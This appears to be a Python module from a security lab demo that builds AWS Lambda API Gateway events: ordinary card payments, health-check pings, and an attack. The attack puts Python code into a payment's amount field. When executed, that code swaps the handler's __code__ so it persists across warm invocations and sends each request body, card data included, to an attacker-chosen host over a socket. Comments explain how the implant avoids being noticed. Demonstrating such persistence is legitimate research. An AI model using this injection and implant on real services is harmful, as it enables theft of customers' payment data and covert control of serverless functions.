"""The three kinds of request the demo sends: a customer paying, a keep-warm ping, the attack."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

from dayfly.lab.demo.cards import make_cards

if TYPE_CHECKING:
    from random import Random

_NAMES = ("Ada", "Bram", "Chidi", "Dalia", "Emre", "Freya", "Goran", "Hana", "Ines", "Jonas", "Kaya", "Lucia")


@dataclass(frozen=True, slots=True)
class Customer:
    """Somebody who pays; `card` is unique within a demo."""

    name: str
    card: str
    amount: str


# What the attacker types into the amount field, once per request. It defines `_plant` and calls it. From
# then on `handler` is the attacker's function, which passes every event on and to the old one. Swapping
# `__code__` matters: awslambdaric looks the handler up once, so a new `app.handler` would never be called.
# One connection without waiting for an answer: a customer would notice more.
_IMPLANT = """
import json, os, socket, types

def _plant(context):
    if "_old_handler" in globals():
        return
    globals()["_implant"] = {"implant": os.urandom(8).hex(), "planted_by": context.aws_request_id}
    globals()["_old_handler"] = types.FunctionType(handler.__code__, globals())
    handler.__code__ = _spy.__code__
    _send(None, context)

def _spy(event, context):
    _send(event.get("body"), context)
    return _old_handler(event, context)

def _send(body, context):
    seen = {**_implant, "request": context.aws_request_id, "environment": context.log_stream_name,
            "process": os.getpid(), "body": body}
    try:
        with socket.create_connection(("HOST", PORT), 2) as sink:
            sink.sendall(json.dumps(seen).encode())
    except OSError:
        pass
"""


def implant_source(*, sink_host: str, sink_port: int) -> str:
    """Return the Python the attack runs in the function, as it may be shown to a reader."""
    return _IMPLANT.strip().replace("HOST", sink_host).replace("PORT", str(sink_port))


def make_customers(count: int, *, random: Random) -> tuple[Customer, ...]:
    """Return `count` customers with different cards and ordinary sums as amounts."""
    return tuple(
        Customer(
            name=f"{random.choice(_NAMES)} {number}",
            card=card,
            amount=f"{random.randrange(500, 20_000) / 100:.2f} + {random.choice(('0.00', '2.90', '4.99'))}",
        )
        for number, card in enumerate(make_cards(count, random=random), start=1)
    )


def payment_event(customer: Customer) -> bytes:
    """Return the API Gateway proxy event of a customer's payment."""
    return _proxy_event("POST", {"customer": customer.name, "card": customer.card, "amount": customer.amount})


def attack_event(*, sink_host: str, sink_port: int) -> bytes:
    """Return the proxy event of the attack: a payment whose amount is code that also yields a number."""
    source = implant_source(sink_host=sink_host, sink_port=sink_port)
    amount = f"(exec({source!r}, globals()), _plant(context), 1.0)[-1]"
    return _proxy_event("POST", {"customer": "nobody", "card": "0000", "amount": amount})


def ping_event() -> bytes:
    """Return the proxy event of a keep-warm ping: a health check, like any monitor's."""
    return _proxy_event("GET", None)


def _proxy_event(method: str, body: dict[str, str] | None) -> bytes:
    # https://docs.aws.amazon.com/lambda/latest/dg/services-apigateway.html#apigateway-example-event
    path = "/payments" if method == "POST" else "/health"
    event = {
        "resource": path,
        "path": path,
        "httpMethod": method,
        "headers": {"accept": "application/json", "content-type": "application/json"},
        "queryStringParameters": None,
        "pathParameters": None,
        "requestContext": {"resourcePath": path, "httpMethod": method, "stage": "prod"},
        "body": None if body is None else json.dumps(body),
        "isBase64Encoded": False,
    }
    return json.dumps(event).encode()
